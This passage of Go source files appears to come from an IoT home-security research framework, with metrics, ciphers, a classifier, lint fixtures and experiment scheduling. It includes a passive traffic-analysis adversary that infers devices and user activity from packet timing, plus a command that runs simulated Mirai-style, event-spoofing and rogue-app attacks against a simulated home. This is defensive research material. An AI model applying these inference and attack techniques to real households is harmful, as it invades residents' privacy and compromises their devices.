	Name  string `json:"name"`
	Value int64  `json:"value"`
}

// HistSample is one histogram reading in a Snapshot.
type HistSample struct {
	Name    string       `json:"name"`
	Count   uint64       `json:"count"`
	Sum     uint64       `json:"sum"`
	Buckets []HistBucket `json:"buckets,omitempty"`
}

// Snapshot copies every metric under the registry lock, sorted by name so
// the output is deterministic. Nil-safe: a nil registry snapshots empty.
func (r *Registry) Snapshot() Snapshot {
	if r == nil {
		return Snapshot{}
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	s := Snapshot{
		Counters:   make([]CounterSample, 0, len(r.counters)),
		Gauges:     make([]GaugeSample, 0, len(r.gauges)),
		Histograms: make([]HistSample, 0, len(r.histograms)),
	}
	for name, c := range r.counters {
		s.Counters = append(s.Counters, CounterSample{Name: name, Value: c.Value()})
	}
	for name, g := range r.gauges {
		s.Gauges = append(s.Gauges, GaugeSample{Name: name, Value: g.Value()})
	}
	for name, h := range r.histograms {
		s.Histograms = append(s.Histograms, HistSample{
			Name: name, Count: h.Count(), Sum: h.Sum(), Buckets: h.Buckets(),
		})
	}
	sort.Slice(s.Counters, func(i, j int) bool { return s.Counters[i].Name < s.Counters[j].Name })
	sort.Slice(s.Gauges, func(i, j int) bool { return s.Gauges[i].Name < s.Gauges[j].Name })
	sort.Slice(s.Histograms, func(i, j int) bool { return s.Histograms[i].Name < s.Histograms[j].Name })
	return s
}

// String renders the snapshot one metric per line, for logs and CLIs.
func (s Snapshot) String() string {
	var b strings.Builder
	for _, c := range s.Counters {
		fmt.Fprintf(&b, "counter %s %d\n", c.Name, c.Value)
	}
	for _, g := range s.Gauges {
		fmt.Fprintf(&b, "gauge %s %d\n", g.Name, g.Value)
	}
	for _, h := range s.Histograms {
		fmt.Fprintf(&b, "hist %s count=%d sum=%d\n", h.Name, h.Count, h.Sum)
	}
	return b.String()
}
