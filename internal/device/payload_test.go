package device

import "testing"

func TestNewPayloadFraming(t *testing.T) {
	for _, tc := range []struct {
		id, kind, body string
		want           string
	}{
		{"bulb-1", "keepalive", "", "keepalive:bulb-1"},
		{"cam-1", "event", "motion", "event:cam-1:motion"},
		{"", "event", "x", "event::x"},
	} {
		if got := string(NewPayload(tc.id, tc.kind, tc.body)); got != tc.want {
			t.Errorf("NewPayload(%q, %q, %q) = %q, want %q", tc.id, tc.kind, tc.body, got, tc.want)
		}
	}
}

func TestDevicePayloadConstructors(t *testing.T) {
	d := NewSmartBulb("bulb-7")
	if got, want := string(d.KeepalivePayload()), "keepalive:bulb-7"; got != want {
		t.Errorf("KeepalivePayload = %q, want %q", got, want)
	}
	if got, want := string(d.EventPayload("on")), "event:bulb-7:on"; got != want {
		t.Errorf("EventPayload = %q, want %q", got, want)
	}
}
