package ml

import (
	"errors"
	"fmt"
	"math"
)

// MKL combines base kernels with non-negative weights learned by
// kernel-target alignment (Cristianini et al.): weight_k is proportional
// to the alignment between kernel k's Gram matrix and the label matrix
// yy^T. This realises the paper's §IV-D claims: feature combination from
// heterogeneous sources, weights and classifier obtained together, and a
// technically sound (alignment-maximising) fusion.
type MKL struct {
	kernels []Kernel
	weights []float64
	// training set retained for the kernel classifier
	train  []Sample
	alphas []float64
	bias   float64
}

// NewMKL creates an untrained MKL model over base kernels.
func NewMKL(kernels ...Kernel) (*MKL, error) {
	if len(kernels) == 0 {
		return nil, errors.New("ml: MKL needs at least one kernel")
	}
	return &MKL{kernels: kernels}, nil
}

// Weights returns the learned kernel weights (after Fit).
func (m *MKL) Weights() []float64 { return append([]float64(nil), m.weights...) }

// KernelNames returns base kernel names in weight order.
func (m *MKL) KernelNames() []string {
	out := make([]string, len(m.kernels))
	for i, k := range m.kernels {
		out[i] = k.Name()
	}
	return out
}

// Combined evaluates the weighted kernel sum for a pair.
func (m *MKL) Combined(a, b Sample) float64 {
	var s float64
	for i, k := range m.kernels {
		w := 1.0 / float64(len(m.kernels))
		if m.weights != nil {
			w = m.weights[i]
		}
		s += w * k.K(a, b)
	}
	return s
}

// Fit learns kernel weights by alignment and then trains a kernel
// perceptron on the combined kernel. Labels must be +1/-1.
func (m *MKL) Fit(train []Sample, epochs int) error {
	if len(train) == 0 {
		return errors.New("ml: empty training set")
	}
	for i, s := range train {
		if s.Label != 1 && s.Label != -1 {
			return fmt.Errorf("ml: sample %d label %d not in {+1,-1}", i, s.Label)
		}
	}
	n := len(train)

	// Gram matrices per kernel (centred alignment, simplified: raw
	// alignment with yy^T).
	grams := make([][][]float64, len(m.kernels))
	for ki, k := range m.kernels {
		g := make([][]float64, n)
		for i := 0; i < n; i++ {
			g[i] = make([]float64, n)
			for j := 0; j <= i; j++ {
				v := k.K(train[i], train[j])
				g[i][j] = v
			}
		}
		for i := 0; i < n; i++ {
			for j := i + 1; j < n; j++ {
				g[i][j] = g[j][i]
			}
		}
		grams[ki] = g
	}

	// Alignment of each kernel with the label matrix.
	m.weights = make([]float64, len(m.kernels))
	var wsum float64
	for ki := range m.kernels {
		var dot, norm float64
		for i := 0; i < n; i++ {
			for j := 0; j < n; j++ {
				y := float64(train[i].Label * train[j].Label)
				dot += grams[ki][i][j] * y
				norm += grams[ki][i][j] * grams[ki][i][j]
			}
		}
		a := 0.0
		if norm > 0 {
			a = dot / (math.Sqrt(norm) * float64(n))
		}
		if a < 0 {
			a = 0 // anti-aligned kernels are dropped, not negated
		}
		m.weights[ki] = a
		wsum += a
	}
	if wsum == 0 {
		// Degenerate: fall back to uniform weights.
		for i := range m.weights {
			m.weights[i] = 1 / float64(len(m.weights))
		}
	} else {
		for i := range m.weights {
			m.weights[i] /= wsum
		}
	}

	// Kernel perceptron on the combined Gram matrix.
	m.train = append([]Sample(nil), train...)
	m.alphas = make([]float64, n)
	m.bias = 0
	comb := func(i, j int) float64 {
		var s float64
		for ki := range m.kernels {
			s += m.weights[ki] * grams[ki][i][j]
		}
		return s
	}
	if epochs <= 0 {
		epochs = 10
	}
	for e := 0; e < epochs; e++ {
		mistakes := 0
		for i := 0; i < n; i++ {
			var f float64
			for j := 0; j < n; j++ {
				if m.alphas[j] != 0 {
					f += m.alphas[j] * float64(train[j].Label) * comb(i, j)
				}
			}
			f += m.bias
			if float64(train[i].Label)*f <= 0 {
				m.alphas[i]++
				m.bias += float64(train[i].Label)
				mistakes++
			}
		}
		if mistakes == 0 {
			break
		}
	}
	return nil
}

// Score returns the decision value for a sample (positive = malicious).
func (m *MKL) Score(s Sample) float64 {
	var f float64
	for j, t := range m.train {
		if m.alphas[j] != 0 {
			f += m.alphas[j] * float64(t.Label) * m.Combined(s, t)
		}
	}
	return f + m.bias
}

// Predict classifies a sample into {+1, -1}.
func (m *MKL) Predict(s Sample) int {
	if m.Score(s) > 0 {
		return 1
	}
	return -1
}

// Accuracy evaluates on a labelled set.
func (m *MKL) Accuracy(test []Sample) float64 {
	if len(test) == 0 {
		return 0
	}
	ok := 0
	for _, s := range test {
		if m.Predict(s) == s.Label {
			ok++
		}
	}
	return float64(ok) / float64(len(test))
}
