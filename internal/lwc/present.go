package lwc

import (
	"crypto/cipher"
	"encoding/binary"
)

// presentSBox is the 4-bit PRESENT S-box (Bogdanov et al., CHES 2007).
var presentSBox = [16]byte{
	0xC, 0x5, 0x6, 0xB, 0x9, 0x0, 0xA, 0xD,
	0x3, 0xE, 0xF, 0x8, 0x4, 0x7, 0x1, 0x2,
}

var presentSBoxInv = invert4(presentSBox)

// invert4 returns the inverse of a 4-bit S-box.
func invert4(s [16]byte) [16]byte {
	var inv [16]byte
	for i, v := range s {
		inv[v] = byte(i)
	}
	return inv
}

const presentRounds = 31

// rotl80 rotates an 80-bit value left by n bits. The value is represented
// as hi (bits 79..16) and lo (bits 15..0); only the low 16 bits of lo are
// significant.
func rotl80(hi, lo uint64, n uint) (uint64, uint64) {
	var nh, nl uint64
	bit := func(j uint) uint64 {
		if j < 16 {
			return lo >> j & 1
		}
		return hi >> (j - 16) & 1
	}
	for i := uint(0); i < 80; i++ {
		b := bit((i + 80 - n) % 80)
		if i < 16 {
			nl |= b << i
		} else {
			nh |= b << (i - 16)
		}
	}
	return nh, nl
}

type present struct {
	rk [presentRounds + 1]uint64 // round keys K1..K32
}

var _ cipher.Block = (*present)(nil)

// NewPRESENT returns the PRESENT block cipher with an 80- or 128-bit key
// and a 64-bit block. PRESENT is the archetypal ultra-lightweight SPN and
// the basis of the ISO/IEC 29192-2 lightweight cipher standard.
func NewPRESENT(key []byte) (cipher.Block, error) {
	switch len(key) {
	case 10:
		return newPresent80(key), nil
	case 16:
		return newPresent128(key), nil
	default:
		return nil, KeySizeError{Algorithm: "PRESENT", Len: len(key)}
	}
}

func newPresent80(key []byte) *present {
	// The 80-bit key register is kept as hi (64 bits, key bits 79..16) and
	// lo (16 bits, key bits 15..0).
	hi := binary.BigEndian.Uint64(key[0:8])
	lo := uint64(binary.BigEndian.Uint16(key[8:10]))

	var c present
	for r := 1; r <= presentRounds+1; r++ {
		c.rk[r-1] = hi // leftmost 64 bits
		if r == presentRounds+1 {
			break
		}
		hi, lo = rotl80(hi, lo, 61)
		// S-box on the 4 most significant bits (bits 79..76 = hi 63..60).
		top := byte(hi >> 60)
		hi = hi&^(0xF<<60) | uint64(presentSBox[top])<<60
		// XOR round counter into key bits 19..15 (hi bits 3..0 hold key
		// bits 19..16; lo bit 15 holds key bit 15).
		rc := uint64(r)
		hi ^= rc >> 1
		lo ^= (rc & 1) << 15
	}
	return &c
}

func newPresent128(key []byte) *present {
	hi := binary.BigEndian.Uint64(key[0:8])
	lo := binary.BigEndian.Uint64(key[8:16])

	var c present
	for r := 1; r <= presentRounds+1; r++ {
		c.rk[r-1] = hi
		if r == presentRounds+1 {
			break
		}
		// Rotate the 128-bit register left by 61.
		nh := hi<<61 | lo>>3
		nl := lo<<61 | hi>>3
		hi, lo = nh, nl
		// S-box on the two most significant nibbles.
		hi = hi&^(0xFF<<56) |
			uint64(presentSBox[byte(hi>>60)])<<60 |
			uint64(presentSBox[byte(hi>>56)&0xF])<<56
		// XOR round counter into bits 66..62.
		rc := uint64(r)
		hi ^= rc >> 2
		lo ^= (rc & 3) << 62
	}
	return &c
}

func (c *present) BlockSize() int { return 8 }

// The PRESENT bit permutation moves bit i (0 = LSB) to position
// i*16 mod 63, with bit 63 fixed. Bit-at-a-time application costs ~64
// shifts per call; instead we precompute, for each of the 8 byte lanes,
// the spread image of every byte value — the permutation is then 8 table
// lookups OR-ed together. The tables are built once at package
// initialisation and immutable afterwards.
var presentPermTab, presentPermInvTab = buildPresentPermTabs()

func buildPresentPermTabs() (fwd, inv [8][256]uint64) {
	permBit := func(i int) int {
		if i == 63 {
			return 63
		}
		return i * 16 % 63
	}
	for lane := 0; lane < 8; lane++ {
		for b := 0; b < 256; b++ {
			var f, v uint64
			for bit := 0; bit < 8; bit++ {
				if b>>uint(bit)&1 == 0 {
					continue
				}
				src := lane*8 + bit
				f |= 1 << uint(permBit(src))
				// Inverse: bit src in the output came from permBit^-1;
				// equivalently, place src's bit where it maps FROM.
				for j := 0; j < 64; j++ {
					if permBit(j) == src {
						v |= 1 << uint(j)
						break
					}
				}
			}
			fwd[lane][b] = f
			inv[lane][b] = v
		}
	}
	return fwd, inv
}

func presentPermute(s uint64) uint64 {
	return presentPermTab[0][byte(s)] |
		presentPermTab[1][byte(s>>8)] |
		presentPermTab[2][byte(s>>16)] |
		presentPermTab[3][byte(s>>24)] |
		presentPermTab[4][byte(s>>32)] |
		presentPermTab[5][byte(s>>40)] |
		presentPermTab[6][byte(s>>48)] |
		presentPermTab[7][byte(s>>56)]
}

func presentPermuteInv(s uint64) uint64 {
	return presentPermInvTab[0][byte(s)] |
		presentPermInvTab[1][byte(s>>8)] |
		presentPermInvTab[2][byte(s>>16)] |
		presentPermInvTab[3][byte(s>>24)] |
		presentPermInvTab[4][byte(s>>32)] |
		presentPermInvTab[5][byte(s>>40)] |
		presentPermInvTab[6][byte(s>>48)] |
		presentPermInvTab[7][byte(s>>56)]
}

func presentSub(s uint64, box *[16]byte) uint64 {
	var out uint64
	for i := 0; i < 16; i++ {
		out |= uint64(box[s>>uint(4*i)&0xF]) << uint(4*i)
	}
	return out
}

func (c *present) Encrypt(dst, src []byte) {
	checkBlock("PRESENT", 8, dst, src)
	s := binary.BigEndian.Uint64(src)
	for r := 0; r < presentRounds; r++ {
		s ^= c.rk[r]
		s = presentSub(s, &presentSBox)
		s = presentPermute(s)
	}
	s ^= c.rk[presentRounds]
	binary.BigEndian.PutUint64(dst, s)
}

func (c *present) Decrypt(dst, src []byte) {
	checkBlock("PRESENT", 8, dst, src)
	s := binary.BigEndian.Uint64(src)
	s ^= c.rk[presentRounds]
	for r := presentRounds - 1; r >= 0; r-- {
		s = presentPermuteInv(s)
		s = presentSub(s, &presentSBoxInv)
		s ^= c.rk[r]
	}
	binary.BigEndian.PutUint64(dst, s)
}
