package shaping

import (
	"sort"
	"time"

	"xlf/internal/netsim"
)

// KnowledgeBase is the adversary's public knowledge: which vendor domain
// belongs to which device type, and each type's typical WAN rate band in
// bytes/second (from purchasable devices, as Apthorpe et al. note).
type KnowledgeBase struct {
	// DomainType maps vendor domain -> device type label.
	DomainType map[string]string
	// DomainAddr is the public DNS mapping the adversary can resolve
	// itself.
	DomainAddr map[string]netsim.Addr
	// RateBand gives per-type (min, max) mean rate in B/s; zero value
	// disables the rate check for that type.
	RateBand map[string][2]float64
}

// addrDomain inverts DomainAddr.
func (kb KnowledgeBase) addrDomain() map[netsim.Addr]string {
	out := make(map[netsim.Addr]string, len(kb.DomainAddr))
	for d, a := range kb.DomainAddr {
		out[a] = d
	}
	return out
}

// Identification is one device-type claim by the adversary.
type Identification struct {
	ExternalPort int
	Domain       string
	DeviceType   string
	Confidence   float64
}

// InferredEvent is a user-activity claim: "something happened on this flow
// at this time".
type InferredEvent struct {
	Time         time.Duration
	ExternalPort int
	DeviceType   string
}

// Adversary is the passive WAN observer.
type Adversary struct {
	KB KnowledgeBase
	// BinWidth is the rate-sampling bin for activity inference.
	BinWidth time.Duration
	// SpikeFactor is how far above the flow's median bin a bin must rise
	// to count as an event.
	SpikeFactor float64
}

// NewAdversary returns an observer with HoMonit/Apthorpe-like defaults.
func NewAdversary(kb KnowledgeBase) *Adversary {
	return &Adversary{KB: kb, BinWidth: time.Second, SpikeFactor: 3}
}

// IdentifyDevices performs steps 1-2 of the Apthorpe inference: separate
// packet streams by external endpoint, then associate DNS queries (or
// self-resolved destination addresses) with device types. Shaping and DNS
// encryption degrade it: encrypted DNS removes the query signal, dummies
// create flows to cover destinations, and padding moves rates out of the
// knowledge-base band.
func (a *Adversary) IdentifyDevices(records []netsim.PacketRecord) []Identification {
	addrDom := a.KB.addrDomain()

	// Step 1: distinct client streams = distinct external source ports.
	type flowAgg struct {
		bytes int
		first time.Duration
		last  time.Duration
		dom   string
	}
	flows := make(map[int]*flowAgg)
	// Cleartext DNS names seen (boosts confidence when present).
	dnsSeen := make(map[string]bool)
	for _, r := range records {
		if r.DNSName != "" && !r.Encrypted {
			dnsSeen[r.DNSName] = true
		}
		if r.DstPort == 53 || r.SrcPort == 53 {
			continue // the DNS channel itself
		}
		if !r.Src.IsLAN() && r.SrcPort != 0 {
			// Outbound post-NAT packet (src = gateway WAN face).
			f := flows[r.SrcPort]
			if f == nil {
				f = &flowAgg{first: r.Time}
				flows[r.SrcPort] = f
			}
			f.bytes += r.Size
			f.last = r.Time
			if d, ok := addrDom[r.Dst]; ok {
				f.dom = d
			}
		}
	}

	var out []Identification
	for port, f := range flows {
		if f.dom == "" {
			continue
		}
		typ, ok := a.KB.DomainType[f.dom]
		if !ok {
			continue
		}
		conf := 0.5
		if dnsSeen[f.dom] {
			conf += 0.3 // the DNS query itself was observed
		}
		if band, ok := a.KB.RateBand[typ]; ok && band != [2]float64{} {
			dur := (f.last - f.first).Seconds()
			if dur > 0 {
				rate := float64(f.bytes) / dur
				if rate >= band[0] && rate <= band[1] {
					conf += 0.2
				} else {
					conf -= 0.3 // rate inconsistent with the claimed type
				}
			}
		}
		if conf < 0.5 {
			continue
		}
		out = append(out, Identification{
			ExternalPort: port, Domain: f.dom, DeviceType: typ,
			Confidence: minF(conf, 1),
		})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ExternalPort < out[j].ExternalPort })
	return out
}

// InferEvents performs step 3: rate spikes per external-port stream
// signal user interactions.
func (a *Adversary) InferEvents(records []netsim.PacketRecord) []InferredEvent {
	addrDom := a.KB.addrDomain()
	type key struct {
		port int
	}
	bins := make(map[key]map[int64]int)
	doms := make(map[key]string)
	for _, r := range records {
		if r.DstPort == 53 || r.SrcPort == 53 || r.Src.IsLAN() {
			continue
		}
		k := key{r.SrcPort}
		if bins[k] == nil {
			bins[k] = make(map[int64]int)
		}
		bins[k][int64(r.Time/a.BinWidth)] += r.Size
		if d, ok := addrDom[r.Dst]; ok {
			doms[k] = d
		}
	}
	var out []InferredEvent
	for k, byBin := range bins {
		if len(byBin) < 2 {
			continue
		}
		var vals []int
		for _, v := range byBin {
			vals = append(vals, v)
		}
		sort.Ints(vals)
		med := float64(vals[len(vals)/2])
		if med <= 0 {
			med = 1
		}
		var binIDs []int64
		for b := range byBin {
			binIDs = append(binIDs, b)
		}
		sort.Slice(binIDs, func(i, j int) bool { return binIDs[i] < binIDs[j] })
		for _, b := range binIDs {
			if float64(byBin[b]) >= a.SpikeFactor*med {
				typ := a.KB.DomainType[doms[k]]
				out = append(out, InferredEvent{
					Time:         time.Duration(b) * a.BinWidth,
					ExternalPort: k.port,
					DeviceType:   typ,
				})
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Time < out[j].Time })
	return out
}

// GroundTruthEvent is a labelled real event for scoring.
type GroundTruthEvent struct {
	Time       time.Duration
	DeviceType string
}

// ScoreEvents compares inferred events with ground truth using a matching
// tolerance, returning (precision, recall).
func ScoreEvents(inferred []InferredEvent, truth []GroundTruthEvent, tolerance time.Duration) (float64, float64) {
	if len(inferred) == 0 {
		if len(truth) == 0 {
			return 1, 1
		}
		return 1, 0 // vacuous precision, zero recall
	}
	usedT := make([]bool, len(truth))
	tp := 0
	for _, ev := range inferred {
		for ti, tr := range truth {
			if usedT[ti] {
				continue
			}
			dt := ev.Time - tr.Time
			if dt < 0 {
				dt = -dt
			}
			if dt <= tolerance {
				usedT[ti] = true
				tp++
				break
			}
		}
	}
	precision := float64(tp) / float64(len(inferred))
	recall := 0.0
	if len(truth) > 0 {
		recall = float64(tp) / float64(len(truth))
	}
	return precision, recall
}

func minF(a, b float64) float64 {
	if a < b {
		return a
	}
	return b
}
