// Package reg is a registry OUTSIDE the shard-state roots; its own
// writes are legal here, but reaching them from a root package is the
// cross-shard hazard globalmut reports at the boundary.
package reg

var count int

var byName = map[string]int{}

// Register bumps package-level state.
func Register(name string) {
	count++
	byName[name] = count
}

// Count reads without writing; calling it from a root is fine.
func Count() int { return count }
