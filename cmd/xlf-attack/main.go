// Command xlf-attack executes the full attack scenario suite (every
// Table II attack plus the §III network/service attacks) against a chosen
// home configuration and prints per-attack outcomes.
//
// Usage:
//
//	xlf-attack                 # vulnerable home (everything lands)
//	xlf-attack -hardened       # hardened platform, no XLF runtime
//	xlf-attack -xlf            # full XLF protection (detection report)
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"xlf"
	"xlf/internal/attack"
	"xlf/internal/service"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	fs := flag.NewFlagSet("xlf-attack", flag.ContinueOnError)
	var (
		seed     = fs.Int64("seed", 1, "deterministic seed")
		hardened = fs.Bool("hardened", false, "hardened platform (no flaws)")
		withXLF  = fs.Bool("xlf", false, "full XLF runtime")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	flaws := service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true}
	if *hardened {
		flaws = service.Flaws{}
	}
	sys, err := xlf.New(xlf.Options{
		Seed:              *seed,
		Flaws:             flaws,
		DisableProtection: !*withXLF,
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, "xlf-attack:", err)
		return 1
	}
	env := sys.Home.AttackEnv()

	suite := append(attack.TableIIAttacks(),
		&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 15 * time.Second},
		&attack.EventSpoof{DeviceID: "cam-1", Event: "clear", Value: 1},
		&attack.RogueApp{
			AppID: "free-wallpaper", CoverDevice: "window-1", CoverCap: "contact",
			TargetDevice: "window-1", TargetCommand: "unlock",
		},
	)
	fmt.Printf("attack suite against %s home (seed %d)\n\n", mode(*hardened, *withXLF), *seed)
	for _, a := range suite {
		res := a.Execute(env)
		fmt.Printf("  [%-7s] %s\n", a.Layer(), res)
	}
	if err := sys.Home.Run(3 * time.Minute); err != nil {
		fmt.Fprintln(os.Stderr, "xlf-attack:", err)
		return 1
	}
	fmt.Println()
	fmt.Print(sys.Report())
	return 0
}

func mode(hardened, withXLF bool) string {
	switch {
	case withXLF:
		return "XLF-protected"
	case hardened:
		return "hardened"
	default:
		return "vulnerable"
	}
}
