package exp

import (
	"runtime"
	"sync"
	"time"
)

// Telemetry is the scheduler's per-experiment measurement: how long the
// run took and what it allocated. It feeds the BENCH_<id>.json artifacts
// only — Result.String() never renders it, so telemetry cannot break the
// byte-identity contract between runs.
type Telemetry struct {
	// WallNS is the experiment's wall-clock duration in nanoseconds.
	WallNS int64 `json:"wall_ns"`
	// AllocBytes and Allocs are heap-allocation deltas over the run,
	// measured from runtime.MemStats. Attribution is only exact when one
	// experiment runs at a time, so parallel schedules record -1.
	AllocBytes int64 `json:"alloc_bytes"`
	Allocs     int64 `json:"allocs"`
}

// Scheduler fans experiments out across a bounded worker pool. Results
// come back in input order regardless of completion order, and every
// experiment runs under its own forked Env (fresh clock, restarted RNG
// streams), so a parallel schedule renders byte-identically to the
// sequential one whenever the env's clock family is deterministic.
type Scheduler struct {
	// Parallel is the worker count; values below one mean sequential.
	Parallel int
}

// workers clamps the pool size for n jobs under env: never more workers
// than jobs, and strictly sequential when the env cannot mint independent
// clocks (forks would share one stateful clock closure, a data race).
func (s *Scheduler) workers(env *Env, n int) int {
	w := s.Parallel
	if w < 1 || env.ClockFactory == nil {
		w = 1
	}
	if w > n {
		w = n
	}
	return w
}

// Run executes the given experiments and returns their results in input
// order. Each worker pulls the next job index from a shared channel, so a
// slow experiment (T2, E9) never blocks the rest of the pool.
func (s *Scheduler) Run(env *Env, exps []Experiment) []*Result {
	n := len(exps)
	results := make([]*Result, n)
	w := s.workers(env, n)
	// Fork every child env up front, sequentially, in input order: fork
	// order decides the trace tree's child order, so it must not depend on
	// which worker goroutine grabs which job.
	envs := make([]*Env, n)
	for i := range envs {
		envs[i] = env.Fork()
	}
	if w == 1 {
		for i, ex := range exps {
			results[i] = runMeasured(ex, envs[i], true)
		}
		return results
	}
	jobs := make(chan int)
	var wg sync.WaitGroup
	for k := 0; k < w; k++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range jobs {
				results[i] = runMeasured(exps[i], envs[i], false)
			}
		}()
	}
	for i := 0; i < n; i++ {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
	return results
}

// runMeasured executes one experiment and attaches telemetry. Wall time is
// a sanctioned measurement read; allocation deltas are only recorded when
// the run is exclusive (exact), since MemStats is process-global.
func runMeasured(ex Experiment, env *Env, exclusive bool) *Result {
	tel := &Telemetry{AllocBytes: -1, Allocs: -1}
	var m0 runtime.MemStats
	if exclusive {
		runtime.ReadMemStats(&m0)
	}
	start := time.Now() //xlf:allow-wallclock telemetry timing source
	r := ex.Run(env)
	tel.WallNS = time.Since(start).Nanoseconds() //xlf:allow-wallclock telemetry timing source
	if exclusive {
		var m1 runtime.MemStats
		runtime.ReadMemStats(&m1)
		tel.AllocBytes = int64(m1.TotalAlloc - m0.TotalAlloc)
		tel.Allocs = int64(m1.Mallocs - m0.Mallocs)
	}
	r.Telemetry = tel
	return r
}

// Sweep fans an experiment's inner parameter grid (E1's ablation configs,
// E2's shaping intensities, ...) across the env's worker budget and
// returns the point results in index order. Every point receives its own
// forked Env, so points are as isolated from each other as experiments
// are and the fan-out cannot change rendered output.
func Sweep[T any](env *Env, n int, point func(i int, env *Env) T) []T {
	out := make([]T, n)
	w := env.Workers
	if w < 1 || env.ClockFactory == nil {
		w = 1
	}
	if w > n {
		w = n
	}
	// Pre-fork in index order for the same reason Scheduler.Run does: the
	// trace tree's child order must match the sweep grid, not goroutine
	// scheduling.
	envs := make([]*Env, n)
	for i := range envs {
		envs[i] = env.Fork()
	}
	if w == 1 {
		for i := range out {
			out[i] = point(i, envs[i])
		}
		return out
	}
	jobs := make(chan int)
	var wg sync.WaitGroup
	for k := 0; k < w; k++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range jobs {
				out[i] = point(i, envs[i])
			}
		}()
	}
	for i := 0; i < n; i++ {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
	return out
}
