// Package hotfix exercises the hotpathalloc rule: every flagged
// construct inside an annotated function, the constructs that are
// deliberately tolerated, unannotated functions, and line waivers.
package hotfix

import "fmt"

type item struct{ a, b int }

func work() {}

//xlf:hotpath
func hot(xs []int, m map[string]int, s string, n int) int {
	p := &item{a: 1} // want "taking the address of a composite literal"
	_ = p
	sl := []int{1, 2} // want "slice literal allocates its backing array"
	_ = sl
	mm := map[string]int{} // want "map literal allocates"
	_ = mm
	buf := make([]byte, n) // want "make allocates"
	_ = buf
	q := new(item) // want "new allocates"
	_ = q
	xs = append(xs, n) // want "append may grow its backing array"
	t := s + "!"       // want "string concatenation allocates"
	_ = t
	fmt.Println(n)     // want "fmt.Println boxes its arguments"
	for k := range m { // want "map iteration order is nondeterministic"
		_ = k
	}
	f := func() {} // want "function literal allocates a closure"
	_ = f
	go work()      // want "go statement allocates a goroutine stack"
	b := []byte(s) // want "conversion from string to a byte/rune slice"
	_ = b
	u := string(rune(n)) // want "conversion to string allocates"
	_ = u
	v := item{a: 1} // value struct literal: stack-allocatable, quiet
	_ = v
	return xs[0] + int(int64(n)) // numeric conversions: free, quiet
}

// cold is unannotated: the same constructs carry no findings.
func cold() *item {
	buf := make([]byte, 8)
	_ = buf
	return &item{a: 2}
}

//xlf:hotpath
func restring(b []byte, s string) string {
	sub := string(s[1:]) // string-to-string: free, quiet
	_ = sub
	return string(b) // want "conversion to string allocates"
}

//xlf:hotpath
func waived(n int) []int {
	out := make([]int, n) //xlf:allow-hotpath: one-time sizing, reviewed
	return out
}
