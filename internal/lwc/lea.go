package lwc

import (
	"crypto/cipher"
	"encoding/binary"
	"math/bits"
)

// LEA (Hong et al., WISA 2013) is a 128-bit block ARX cipher from South
// Korea's KISA, designed for fast software encryption on 32-bit platforms;
// standardized in ISO/IEC 29192-2. Table III files it under Feistel;
// structurally it is a 4-branch ARX generalized Feistel.

// leaDelta are the key-schedule constants from the LEA specification.
var leaDelta = [8]uint32{
	0xc3efe9db, 0x44626b02, 0x79e27c8a, 0x78df30ec,
	0x715ea49e, 0xc785da0a, 0xe04ef22a, 0xe5c40957,
}

type lea struct {
	rk     [][6]uint32
	rounds int
}

var _ cipher.Block = (*lea)(nil)

// NewLEA returns the LEA block cipher for a 16-, 24- or 32-byte key
// (24, 28 or 32 rounds respectively).
func NewLEA(key []byte) (cipher.Block, error) {
	switch len(key) {
	case 16:
		return newLEA128(key), nil
	case 24:
		return newLEA192(key), nil
	case 32:
		return newLEA256(key), nil
	default:
		return nil, KeySizeError{Algorithm: "LEA", Len: len(key)}
	}
}

func newLEA128(key []byte) *lea {
	var t [4]uint32
	for i := range t {
		t[i] = binary.LittleEndian.Uint32(key[4*i:])
	}
	c := &lea{rounds: 24, rk: make([][6]uint32, 24)}
	for i := 0; i < 24; i++ {
		d := leaDelta[i%4]
		t[0] = bits.RotateLeft32(t[0]+bits.RotateLeft32(d, i), 1)
		t[1] = bits.RotateLeft32(t[1]+bits.RotateLeft32(d, i+1), 3)
		t[2] = bits.RotateLeft32(t[2]+bits.RotateLeft32(d, i+2), 6)
		t[3] = bits.RotateLeft32(t[3]+bits.RotateLeft32(d, i+3), 11)
		c.rk[i] = [6]uint32{t[0], t[1], t[2], t[1], t[3], t[1]}
	}
	return c
}

func newLEA192(key []byte) *lea {
	var t [6]uint32
	for i := range t {
		t[i] = binary.LittleEndian.Uint32(key[4*i:])
	}
	c := &lea{rounds: 28, rk: make([][6]uint32, 28)}
	for i := 0; i < 28; i++ {
		d := leaDelta[i%6]
		t[0] = bits.RotateLeft32(t[0]+bits.RotateLeft32(d, i), 1)
		t[1] = bits.RotateLeft32(t[1]+bits.RotateLeft32(d, i+1), 3)
		t[2] = bits.RotateLeft32(t[2]+bits.RotateLeft32(d, i+2), 6)
		t[3] = bits.RotateLeft32(t[3]+bits.RotateLeft32(d, i+3), 11)
		t[4] = bits.RotateLeft32(t[4]+bits.RotateLeft32(d, i+4), 13)
		t[5] = bits.RotateLeft32(t[5]+bits.RotateLeft32(d, i+5), 17)
		c.rk[i] = [6]uint32{t[0], t[1], t[2], t[3], t[4], t[5]}
	}
	return c
}

func newLEA256(key []byte) *lea {
	var t [8]uint32
	for i := range t {
		t[i] = binary.LittleEndian.Uint32(key[4*i:])
	}
	rot := [6]int{1, 3, 6, 11, 13, 17}
	c := &lea{rounds: 32, rk: make([][6]uint32, 32)}
	for i := 0; i < 32; i++ {
		d := leaDelta[i%8]
		var rk [6]uint32
		for j := 0; j < 6; j++ {
			idx := (6*i + j) % 8
			t[idx] = bits.RotateLeft32(t[idx]+bits.RotateLeft32(d, i+j), rot[j])
			rk[j] = t[idx]
		}
		c.rk[i] = rk
	}
	return c
}

func (c *lea) BlockSize() int { return 16 }

func (c *lea) Encrypt(dst, src []byte) {
	checkBlock("LEA", 16, dst, src)
	x0 := binary.LittleEndian.Uint32(src[0:])
